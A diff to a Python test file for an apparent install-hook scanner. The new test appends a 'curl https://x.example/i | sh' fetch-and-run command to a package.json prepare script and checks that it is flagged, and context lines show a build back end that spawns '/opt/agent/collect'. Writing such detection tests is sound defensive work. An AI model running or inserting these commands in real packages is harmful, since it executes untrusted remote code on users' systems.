@@ -85,6 +85,13 @@ def test_building_is_no_install_command() -> None:
     assert _facts({}, metadata) == []
 
 
+def test_packing_fetches_sources_and_runs_nothing_of_them() -> None:
+    scripts = {"prepare": "[ -d api ] && (cd api && git pull) || git clone https://github.com/example/api"}
+    assert _facts({}, {"package.json": {"scripts": scripts}}) == []
+    scripts["prepare"] += " && curl https://x.example/i | sh"
+    assert [fact.name for fact in _facts({}, {"package.json": {"scripts": scripts}})] == ["install-command"]
+
+
 def test_a_build_back_end_of_the_project_is_read_as_what_installs_it() -> None:
     text = "import subprocess\ndef build_wheel(where):\n    subprocess.Popen(['/opt/agent/collect'])\n"
     build: Json = {"build-backend": "backend", "backend-path": ["_build"]}
